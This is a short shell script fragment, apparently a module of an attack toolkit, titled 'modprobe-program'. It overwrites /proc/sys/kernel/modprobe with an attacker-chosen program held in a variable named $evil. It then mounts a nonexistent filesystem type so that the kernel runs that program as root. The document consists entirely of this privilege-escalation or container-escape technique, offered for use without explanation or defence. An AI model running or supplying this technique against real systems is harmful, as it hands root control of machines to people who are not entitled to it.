# shellcheck shell=sh
#
# modprobe-program - let the kernel start a program instead of modprobe
#
echo $evil >/proc/sys/kernel/modprobe
mount -t nosuchfilesystem none /mnt
sleep 1
